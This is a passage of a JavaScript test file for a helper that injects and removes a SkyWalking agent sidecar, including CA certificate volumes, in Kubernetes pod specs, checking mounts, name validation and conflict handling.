      pod: demoPod({ 'sidecar.skywalking.apache.org/sidecarVolumeMount.MountPath': '/opt/agent', 'sidecar.skywalking.apache.org/sidecarVolume.Name': 'agent' }),
      backend: { caConfigMap: 'ca' },
    });
    expect(r.pod.spec.containers[0].volumeMounts).toContainEqual({ name: 'agent-ca', mountPath: '/opt/agent/ca', readOnly: true });
    expect(removeAgent(r.pod).removed).toBe(true);
    expect(removeAgent(r.pod).pod.spec.volumes).toBeUndefined();
  });

  it('rejects a bad ConfigMap name and still injects the agent (without CA)', () => {
    const r = injectAgent({ pod: demoPod(), backend: { caConfigMap: 'Bad Name/..' } });
    expect(r.injected).toBe(true);
    expect(r.errors.map(e => e.path)).toEqual(['backend.caConfigMap']);
    expect(r.pod.spec.volumes).toEqual([{ name: 'sky-agent', emptyDir: {} }]);
  });

  it('refuses when the CA volume name is taken', () => {
    const r = injectAgent({ pod: demoPod(undefined, { volumes: [{ name: 'sky-agent-ca', emptyDir: {} }] }), backend: { caConfigMap: 'ca' } });
    expect(r.injected).toBe(false);
    expect(r.reason).toBe('CA volume name is taken');
  });

  it('reads markers written before the CA existed', () => {
    const old = injectAgent({ pod: demoPod() }).pod;
    expect(removeAgent(old).pod).toEqual(demoPod());
  });
});
